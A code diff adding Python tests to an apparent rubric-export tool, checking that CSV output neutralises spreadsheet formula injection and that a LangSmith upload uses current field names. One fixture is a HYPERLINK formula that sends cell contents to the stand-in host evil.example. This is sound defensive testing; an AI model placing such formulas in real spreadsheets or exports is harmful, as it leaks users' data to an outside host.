@@ -1,3 +1,4 @@
+import csv
 import dataclasses
 import json
 import logging
@@ -5,6 +6,7 @@ import math
 import os
 import socket
 import subprocess
+import warnings
 from pathlib import Path
 from typing import Any
 
@@ -436,3 +438,85 @@ def test_langsmith_upload_against_a_local_stub(filled: Store, tmp_path: Path, mo
     assert len(ls.examples) == 5 and {"task", "rubric"} <= set(ls.examples[0]["inputs"])
     assert "lsv2-planted-upload" in ls.api_keys
     assert "lsv2-planted-upload" not in result.message
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+FORMULA_RUBRIC = f"- {HYPERLINK}\n- -12 degrees is cold\n- @SUM(A1:A9)\n- +1 for a title\n- At most 20 words"
+
+
+def test_csv_neutralises_formula_cells_and_only_csv(store: Store, engine: Engine, tmp_path: Path) -> None:
+    engine.execute(
+        example_config("haiku", rubric=FORMULA_RUBRIC, rubric_name=HYPERLINK, max_iterations=1),
+        subscribers=[store.record],
+    )
+    export_runs(store, "csv", tmp_path / "c.csv")
+    with (tmp_path / "c.csv").open(encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["criterion"] for r in rows] == [
+        "'" + HYPERLINK,
+        "'-12 degrees is cold",
+        "'@SUM(A1:A9)",
+        "'+1 for a title",
+        "At most 20 words",
+    ]
+    assert {r["rubric_name"] for r in rows} == {"'" + HYPERLINK}
+    for row in rows:  # no cell a spreadsheet would evaluate
+        assert all(not v or v[0] not in "=+-@\t\r" for v in row.values()), row
+    assert {r["iteration"] for r in rows} == {"0"} and {r["schema_version"] for r in rows} == {"2"}  # numbers as is
+    export_runs(store, "jsonl", tmp_path / "r.jsonl")
+    record = json.loads((tmp_path / "r.jsonl").read_text(encoding="utf-8"))
+    assert record["metadata"]["rubric_name"] == HYPERLINK  # the other formats keep the exact text
+    assert record["metadata"]["history"][0]["criteria"][0]["name"] == HYPERLINK
+    export_runs(store, "parquet", tmp_path / "pq")
+    crit = pd.read_parquet(tmp_path / "pq" / "criteria")
+    assert crit["criterion"].iloc[0] == HYPERLINK and crit["criterion"].iloc[1] == "-12 degrees is cold"
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("-3 words over", "'-3 words over"),
+        ("@cmd", "'@cmd"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("a=1", "a=1"),
+        ("", ""),
+        (-1, -1),
+        (2.5, 2.5),
+        (None, None),
+        (True, True),
+    ],
+)
+def test_csv_safe(cell: Any, expected: Any) -> None:
+    from rubric_core.export import csv_safe
+
+    assert csv_safe(cell) == expected
+
+
+def test_langsmith_upload_uses_current_field_names_without_deprecation_warnings(
+    filled: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from tests.stubs.langsmith_stub import StubLangSmith
+
+    with StubLangSmith() as ls:
+        monkeypatch.setenv("LANGSMITH_API_KEY", "lsv2-planted-upload")
+        monkeypatch.setenv("LANGSMITH_ENDPOINT", ls.url)
+        with warnings.catch_warnings():
+            warnings.simplefilter("error")  # a DeprecationWarning from the client fails the upload, and the test
+            result = export_runs(filled, "langsmith", tmp_path / "ls.jsonl", langsmith_dataset="evals")
+    assert "uploaded 5 examples" in result.message, result.message
+    records = [json.loads(line) for line in (tmp_path / "ls.jsonl").read_text().splitlines()]
+    assert all(set(r) == {"inputs", "reference_outputs", "metadata"} for r in records)
+    # On the wire the client serialises reference_outputs under the API's `outputs` key.
+    assert [e["outputs"] for e in ls.examples] == [r["reference_outputs"] for r in records]
+
+
+def test_the_old_outputs_name_would_warn_in_the_pinned_client() -> None:
+    """Guards the test above: the pinned client does warn on the deprecated name."""
+    from langsmith import schemas
+
+    with pytest.warns(DeprecationWarning, match="reference_outputs"):
+        schemas.ExampleCreate(inputs={"a": 1}, outputs={"b": 2})
